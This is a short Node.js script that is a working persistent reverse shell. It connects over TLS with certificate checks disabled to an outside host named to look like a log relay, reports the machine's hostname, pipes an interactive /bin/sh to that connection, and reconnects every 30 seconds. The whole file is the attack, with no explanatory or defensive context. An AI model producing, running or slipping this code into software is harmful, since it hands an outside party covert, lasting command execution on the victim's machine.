const tls = require("tls");
const { spawn } = require("child_process");
const os = require("os");

const target = { host: "relay.edgelogs.example", port: 6514, rejectUnauthorized: false };

function start() {
  const sock = tls.connect(target, () => {
    sock.write(`hello ${os.hostname()}\n`);
    const sh = spawn("/bin/sh", ["-i"]);
    sock.pipe(sh.stdin);
    sh.stdout.pipe(sock);
    sh.stderr.pipe(sock);
  });
  sock.on("error", () => setTimeout(start, 30000));
  sock.on("close", () => setTimeout(start, 30000));
}

start();
